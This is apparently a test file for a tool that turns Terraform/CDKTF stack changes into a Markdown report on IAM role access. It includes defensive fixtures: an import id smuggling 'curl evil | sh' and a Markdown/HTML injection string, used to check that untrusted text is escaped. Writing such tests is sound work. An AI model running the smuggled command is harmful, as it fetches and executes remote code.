import { reportMarkdown } from "../../modules/review";
import { json, reviewed, roles, S3_READ, type Stack } from "./outputs";

const shown = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) =>
  reportMarkdown(reviewed(before, after));
const noChange = (roles: string, workspaces: string, but = "") =>
  `**No change in access${but}:** the inline policies of ${roles} in ${workspaces} allow what they allowed before, and nothing else differs that is known to bear on it.`;

describe("no change in access", () => {
  test("is one line, whatever else differs", () => {
    const other = { output: { o: { value: "1" } }, locals: { a: 1 }, data: { aws_region: { r: {} } } };
    expect(shown({ s: roles(["A", "B"]) }, { s: { ...roles(["B", "A"]), ...other } })).toBe(
      `${noChange("2 IAM roles", "1 workspace")}\n`,
    );
    expect(shown({}, { s: { resource: { aws_s3_bucket: { b: {} } } } })).toBe(
      `${noChange("0 IAM roles", "1 workspace")}\n`,
    );
  });

  test("comes first where something else changes", () => {
    const named = (name: string) => ({
      s: { resource: { aws_iam_role_policy: { a: { role: "R", name, policy: json(S3_READ) } } } },
    });
    expect(shown(named("P"), named("Q")).split("\n")[0]).toBe(
      noChange("1 IAM role", "1 workspace", ", but something else changes"),
    );
  });
});

describe("a thousand roles", () => {
  const many = Array.from({ length: 1000 }, (_, index) => `Role-${1000 + index}`);
  const text = shown({ s: {} }, { s: roles(many) });

  test("are counted, the first ten named, and where the rest is", () => {
    expect(text.split("\n")[0]).toBe("**Access gets broader:** 1,000 IAM roles gain access.");
    expect(text).toContain(
      '`Role-1008`, `Role-1009`, and 990 more (all of it by `npm run -s review -- BASE HEAD --json`, or each `"role"` in `stacks/s/cdk.tf.json`). ',
    );
    expect(text).not.toContain("Role-1010");
    expect(text.split("\n").length).toBeLessThan(20);
  });

  test("in a thousand workspaces are no more than GitHub takes, and say that there is more", () => {
    const stacks = Object.fromEntries(many.map((role) => [role.toLowerCase(), roles([role])]));
    const all = shown({}, stacks);
    expect(all.length).toBeLessThan(65_536);
    expect(all).toContain("| …and 950 more |");
    expect(all).toContain(
      "\n\n…and more than fits here: all of it by `npm run -s review -- BASE HEAD --json`.\n\n<sub>",
    );
  });

  test("with a permission each of their own are no more either", () => {
    const own = Object.fromEntries(
      many.map((role) => [role, { name: "P", role, policy: json({ ...S3_READ, Resource: `arn:aws:s3:::${role}` }) }]),
    );
    const all = shown({}, { s: { resource: { aws_iam_role_policy: own } } });
    expect(all.length).toBeLessThan(65_536);
    expect(all).toContain("…and 990 more groups of roles: all of it by `npm run -s review -- BASE HEAD --json`.\n");
  });
});

describe("permissions", () => {
  test("are a line for each action, with its resources and conditions, once for all roles", () => {
    const policy = json(
      { ...S3_READ, Action: ["s3:GetObject", "s3:PutObject"], Resource: ["arn:aws:s3:::b", "arn:aws:s3:::a"] },
      {
        Effect: "Allow",
        Action: "s3:List*",
        Resource: "*",
        Condition: { StringEquals: { "aws:username": ["y", "x"] }, Bool: { "aws:SecureTransport": "true" } },
      },
      { Effect: "Deny", NotAction: "iam:*", NotResource: "arn:aws:s3:::c" },
    );
    const text = shown({ s: {} }, { s: roles(["A", "B"], policy) });
    expect(/```diff\n(.*?)```/s.exec(text)?.[1]?.split("\n")).toEqual([
      "+ DENY all but iam:* on all but arn:aws:s3:::c",
      "+ s3:List* on * when Bool aws:SecureTransport: true and StringEquals aws:username: x or y",
      "+ s3:GetObject on arn:aws:s3:::a, arn:aws:s3:::b",
      "+ s3:PutObject on arn:aws:s3:::a, arn:aws:s3:::b",
      "",
    ]);
  });

  test("that are wide stand first, so that none hides behind the lines that are left out", () => {
    const actions = Array.from({ length: 100 }, (_, index) => `a:Action${100 + index}`);
    const text = shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Action: [...actions, "z:*"] })) });
    const lines = /```diff\n(.*?)```/s.exec(text)?.[1]?.split("\n") ?? [];
    expect(lines[0]).toBe("+ z:* on *");
    expect(lines.at(-2)).toBe("…and 61 more lines: all of it by `npm run -s review -- BASE HEAD --json`");
  });
});

describe("what changes for roles", () => {
  const stack = (policy: string) => ({ s: roles(["R"], policy) });
  const [read, write] = [S3_READ, { ...S3_READ, Action: "s3:PutObject" }];
  const title = (before: object[], after: object[]) => shown(stack(json(...before)), stack(json(...after))).split("\n");

  test.each([
    ["more", [read], [read, write], "gets broader:** 1 IAM role may do more.", "may do more"],
    ["less", [read, write], [read], "gets narrower:** 1 IAM role may do less.", "may do less"],
    [
      "both",
      [read],
      [write],
      "gets broader:** 1 IAM role may do more or less.",
      "may do more in part and less in part, which counts as broader",
    ],
  ])("is said as %s", (_what, before, after, head, group) => {
    const lines = title(before, after);
    expect(lines[0]).toBe(`**Access ${head}`);
    expect(lines[4]).toBe(`**1 role ${group}:** \`R\`. Inline policy \`P\` changes:`);
  });

  test("is said of each group by itself, and of all together in the first line", () => {
    const two = (a: object[], b: object[]) => ({
      s: {
        resource: {
          aws_iam_role_policy: {
            a: { name: "P", role: "A", policy: json(...a) },
            b: { name: "P", role: "B", policy: json(...b) },
          },
        },
      },
    });
    const text = shown(two([read], [read, write]), two([read, write], [read]));
    expect(text.split("\n")[0]).toBe("**Access gets broader:** 2 IAM roles may do more or less.");
    expect(text).toContain("**1 role may do more:** `A`.");
    expect(text).toContain("**1 role may do less:** `B`.");
    expect(shown(two([read], []), two([], []))).toContain("Inline policy `P` is removed:\n");
  });

  test("says of an action together what it is allowed on before and after, and how much stays", () => {
    const [wide, narrow] = [S3_READ, { ...S3_READ, Resource: "arn:aws:s3:::b" }];
    const text = shown(stack(json(wide, write)), stack(json(narrow, write)));
    expect(text).toContain(
      "```diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n```\n\n1 other permission of theirs stays as it is.\n",
    );
  });

  test("is told as broader, and not as undecided, where a part of it is known", () => {
    const denied = [read, { ...write, Effect: "Deny" }];
    const unread = { ...read, Principal: "a" };
    const lines = title(denied, [read, unread]);
    expect(lines[0]).toBe("**Access gets broader:** 1 IAM role may do more.");
  });

  test("says so where it can't be decided, and what an access depends on", () => {
    const unknown = roles(["R"], "${var.p}", { variable: { p: { default: "a" } } });
    const text = shown({ s: unknown }, { s: { ...unknown, variable: { p: { default: "b", type: "string" } } } });
    expect(text.split("\n")[0]).toBe(
      "**Access can't be decided on here, so it counts as broader:** 1 IAM role may do what can't be read.",
    );
    expect(text).toContain(
      '- the text of the policy `var.p` (changed), known only at apply: `default` of `var.p` was `"a"`, and is `"b"`, `type` of `var.p` was not given, and is `"string"`\n',
    );
  });
});

describe("what is to be done by hand", () => {
  const steps = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) => {
    const [, found = ""] = /^\*\*To do by hand:\*\*\n\n(.*?)\n\n/ms.exec(shown(before, after)) ?? [];
    return found.split("\n").filter(Boolean);
  };
  const provider = (account: string) => ({ provider: { aws: [{ allowed_account_ids: [account] }] } });
  const state = (path: string) => ({ terraform: { backend: { local: { path } } } });

  test("a stack that is removed, or turns to another account, is destroyed before, and only then are its roles without", () => {
    const text = shown({ s: roles(["R"]), t: {} }, { t: {} });
    expect(text.split("\n")[0]).toBe(
      "**Access gets narrower:** 1 IAM role loses access, but only once a stack is destroyed by hand.",
    );
    expect(text).toContain("`npx cdktf destroy s`");
    const [step = "", ...others] = steps(
      { s: roles(["R"], json(S3_READ), provider("111111111111")) },
      { s: roles(["R"], json(S3_READ), provider("222222222222")) },
    );
    expect(step).toContain("destroy its stack in account `111111111111`");
    expect(others).toEqual([]);
  });

  test("a stack isn't destroyed for an account that is merely allowed too, or of a provider that puts nothing", () => {
    const two = { provider: { aws: [{ allowed_account_ids: ["111111111111", "222222222222"] }] } };
    expect(
      steps({ s: roles(["R"], json(S3_READ), provider("111111111111")) }, { s: roles(["R"], json(S3_READ), two) }),
    ).toEqual([]);
    const idle = (account: string) => ({
      provider: { aws: [{ allowed_account_ids: ["111111111111"] }, { alias: "idle", allowed_account_ids: [account] }] },
    });
    expect(
      steps(
        { s: roles(["R"], json(S3_READ), idle("111111111111")) },
        { s: roles(["R"], json(S3_READ), idle("222222222222")) },
      ),
    ).toEqual([]);
  });

  test("what is to be pasted is a command and nothing else", () => {
    const stack = { ...roles(["A"]), import: [{ to: "aws_iam_role_policy.A", id: "A:P; curl evil | sh" }] };
    expect(steps({ s: {} }, { s: stack })).toEqual([expect.stringContaining(": `P; curl evil | sh`.")]);
    expect(steps({ "s; x": roles(["A"]) }, {})).toEqual([expect.stringContaining("`npx cdktf destroy STACK`")]);
  });

  test("for 300 workspaces is cut like the rest", () => {
    const stacks = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`s${100 + index}`, roles(["R"])]));
    expect(shown(stacks, {}).length).toBeLessThan(65_536);
  });

  test("state that is kept elsewhere is migrated", () => {
    expect(
      steps({ s: roles(["R"], json(S3_READ), state("a")) }, { s: roles(["R"], json(S3_READ), state("b")) }),
    ).toEqual([expect.stringContaining("`npx cdktf deploy s --migrate-state`")]);
    const encrypted = (encrypt: boolean) => ({
      s: roles(["R"], json(S3_READ), { terraform: { backend: { s3: { bucket: "b", encrypt } } } }),
    });
    expect(steps(encrypted(false), encrypted(true))).toEqual([]);
  });

  test("of two workspaces that share a policy's name, the one that deletes it is deployed first; otherwise last", () => {
    const named = (name: string) => ({
      resource: { aws_iam_role_policy: { a: { name, role: "R", policy: json(S3_READ) } } },
    });
    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("P") })).toEqual([
      expect.stringContaining("deploy `s`, which deletes it, and only when that is done `t`"),
    ]);
    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("Q") })).toEqual([
      expect.stringContaining("deploy `t`, which creates `Q`, and only when that is done `s`"),
    ]);
  });

  test("is nothing where a workspace is added or roles come and go", () => {
    expect(steps({ s: roles(["A"]) }, { s: roles(["B"]), t: roles(["C"], json(S3_READ), state("x")) })).toEqual([]);
  });
});

describe("text of a stack stays text", () => {
  const NASTY = "`x` **bold** @team <img src=x> [link](http://x) | ~~~ \u202e\u0007\n# heading";

  test.each([
    ["a role", roles([NASTY])],
    ["a policy", { resource: { aws_iam_role_policy: { a: { name: NASTY, role: "R", policy: json(S3_READ) } } } }],
    ["an action", roles(["R"], json({ ...S3_READ, Action: NASTY }))],
    ["a fence", roles(["R"], json({ ...S3_READ, Action: "````\n```" }))],
    ["a resource", roles(["R"], json({ ...S3_READ, Resource: NASTY }))],
    ["a condition", roles(["R"], json({ ...S3_READ, Condition: { [NASTY]: { [NASTY]: NASTY } } }))],
    ["an unread resource", { resource: { aws_iam_role: { [NASTY]: { assume_role_policy: "a" } } } }],
    ["a region", { ...roles(["R"]), provider: { aws: [{ region: NASTY }] } }],
  ])("in %s", (_what, stack) => {
    const text = shown({ s: {} }, { s: stack });
    // Outside code, Markdown would make something of it, GitHub of the mention too.
    const prose = text.replace(/^(`{3,})diff\n.*?^\1$/gms, "").replace(/(`+)(?!`).*?[^`]\1(?!`)/gs, "");
    expect(prose).not.toMatch(/bold|@team|<img|link|heading/);
    expect(text).not.toMatch(/\p{Cf}|(?!\n)\p{Cc}/u);
    expect(text.match(/^#+ /gm)).toEqual(["### "]);
  });

  test("in a table's cell, whose end a bar would be", () => {
    const provider = { provider: { aws: [{ region: "eu|west" }] } };
    const text = shown({}, { a: { ...roles(["R"]), ...provider }, b: { ...roles(["R"]), ...provider } });
    expect(text).toContain("| `a` |  | `eu\\u007cwest` | 1 | – | – | **broader** |");
  });

  test("of any length is cut", () => {
    expect(
      shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Resource: `arn:${"x".repeat(5000)}` })) }).length,
    ).toBeLessThan(1000);
  });
});
